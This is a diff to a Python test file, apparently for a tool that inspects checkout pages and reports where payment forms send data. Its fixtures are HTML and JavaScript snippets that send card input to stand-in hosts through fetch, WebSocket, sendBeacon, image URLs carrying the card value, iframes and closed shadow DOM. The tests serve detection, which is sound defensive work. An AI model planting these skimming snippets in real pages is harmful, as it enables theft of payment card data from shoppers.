@@ -36,7 +36,9 @@ def run_of(site, **named):
     """Return a run that visits a site, and the targets that it goes by."""
     lists = {name: [f"{site}{path}" for path in paths] for name, paths in named.items()}
     targets = {"probes": {**PROMISED, "sites": [], "pages_required": [], "checkouts": [], **lists}}
-    return scene(targets, hosts={HOST: "127.0.0.1"}, seconds=1.0), targets
+    # A browser takes longer where others run beside it.
+    seconds = 15.0 if "checkouts" in named else 1.0
+    return scene(targets, hosts={HOST: "127.0.0.1"}, seconds=seconds), targets
 
 
 def visited(pages, **named):
@@ -212,33 +214,52 @@ def scripted(does):
     return THEIRS.format("") + f"<script>[...document.forms].pop().onsubmit = function(event) {{ {does} }}</script>"
 
 
+SENT_BY_A_SCRIPT = """
+event.preventDefault();
+if (confirm('sure?') && event.isTrusted && this.card.value.length === 16) {
+  fetch('https://fetched.example/', {method: 'POST', body: 'x'});
+  new WebSocket('wss://socket.example/');
+  navigator.sendBeacon('https://beacon.example/');
+  new Image().src = 'https://pictured.example/1.gif?' + this.card.value;
+  open('https://popup.example/', '_blank', 'noopener');
+  window.onpagehide = () => navigator.sendBeacon('https://left.example/');
+}
+"""
+INSIDE = """
+<own-button></own-button><script>customElements.define('own-button', class extends HTMLElement {
+  constructor() {
+    super();
+    const button = document.createElement('button');
+    button.onclick = () => fetch('https://inside.example/', {method: 'POST'});
+    this.attachShadow({mode: 'closed'}).append(button);
+  }
+})</script>
+"""
 LEADING = {
     "<form action='/paid'><input name=card></form>": HOST + " (not encrypted)",
     "<form action='https://pay.example.evil.example/'></form>": "pay.example.evil.example",
     "<form action='http://pay.example/'></form>": "pay.example (not encrypted)",
-    "<iframe src='https://frame.example/'></iframe>": "frame.example",
-    THEIRS.format("<button formaction='https://button.example/'>go</button>"): "button.example",
+    "<iframe src='https://frame.example/'></iframe><iframe src='about:blank'></iframe>": "frame.example",
+    "<iframe id=late></iframe><script>late.contentWindow.location = 'https://placed.example/card'</script>":
+        "placed.example",
+    "<object data='https://object.example/card' type='text/html'></object>": "object.example",
+    THEIRS.format(
+        "<button formaction='https://button.example/'>go</button><input oninput=\"fetch('https://typed.example/')\">"
+    ): "button.example typed.example",
     "<script>document.write('<form action=https://written.example/><input></form>')</script>": "written.example",
     component("open", "https://open.example/"): "open.example",
     component("closed", "https://closed.example/"): "closed.example",
     "<div><template shadowrootmode=closed><form action=https://tree.example/><input></form></template></div>":
         "tree.example",
     "<iframe srcdoc='<form action=https://inner.example/><input></form>'></iframe>": "inner.example",
-    scripted(
-        "event.preventDefault(); fetch('https://fetched.example/', {method: 'POST', body: 'x'});"
-        "new WebSocket('wss://socket.example/'); navigator.sendBeacon('https://beacon.example/')"
-    ): "fetched.example socket.example beacon.example",
-    THEIRS.format("<input oninput=\"fetch('https://typed.example/')\">"): "typed.example",
-    scripted(
-        "event.preventDefault(); if (this.card.value.length === 16) fetch('https://liked.example/', {method: 'POST'})"
-    ): "liked.example",
-    scripted("new Image().src = 'https://pictured.example/1.gif?' + this.card.value"): "pictured.example",
-    scripted("onpagehide = () => navigator.sendBeacon('https://left.example/')"): "left.example",
-    "<script>Document.prototype.querySelectorAll = () => []</script>"
-    "<form action='https://named.example/'><input name=elements><input name=getAttribute></form>": "named.example",
+    scripted(SENT_BY_A_SCRIPT):
+        "fetched.example socket.example beacon.example pictured.example popup.example left.example",
     scripted("this.action = 'https://turned.example/'"): "turned.example",
     THEIRS.format("<button type=button onclick=\"fetch('https://clicked.example/', {method: 'POST'})\">go</button>"):
         "clicked.example",
+    "<script>Document.prototype.querySelectorAll = () => []</script>"
+    "<form action='https://named.example/'><input name=elements><input name=getAttribute></form>": "named.example",
+    INSIDE: "inside.example",
 }  # fmt: skip
 """What stands on a checkout → the hosts to which it leads, words apart."""
 
@@ -248,9 +269,24 @@ def test_a_checkout_that_leads_elsewhere_is_found_however_it_does():
     """Its buttons are pressed, and nothing of that reaches anybody."""
     found, targets, asked = visited({"/pay": "".join(LEADING)}, checkouts=["/pay"])
     places = found.resources[0].body["postsTo"]
-    led = {code: hosts for code, hosts in LEADING.items() if hosts not in places}
-    assert [code for code, hosts in led.items() if not set(hosts.split()) <= set(places)] == []
+    led = {code: [hosts] if hosts in places else hosts.split() for code, hosts in LEADING.items()}
+    assert [host for hosts in led.values() for host in hosts if host not in places] == []
     assert verdict(CHECKOUT, found, targets)[0] is Verdict.BROKEN
+    assert set(asked) <= {"/pay", "/favicon.ico"}
+
+
+KEPT_IN = """
+const link = document.createElement('a'); link.href = '/own'; link.download = 'x'; link.click();
+const other = open('about:blank'); other.setTimeout(() => other.fetch('/own'), 900);
+document.head.append(Object.assign(document.createElement('link'), {rel: 'prefetch', href: '/own'}));
+const work = `fetch('${location.origin}/own', {method: 'POST', mode: 'no-cors'})`;
+new Worker(URL.createObjectURL(new Blob([work])));
+"""
+
+
+@needs_browser
+def test_nothing_that_a_form_sends_leaves_the_browser():
+    _, _, asked = visited({"/pay": scripted(KEPT_IN) + THEIRS.format("")}, checkouts=["/pay"])
     assert set(asked) <= {"/pay", "/favicon.ico"}
 
 
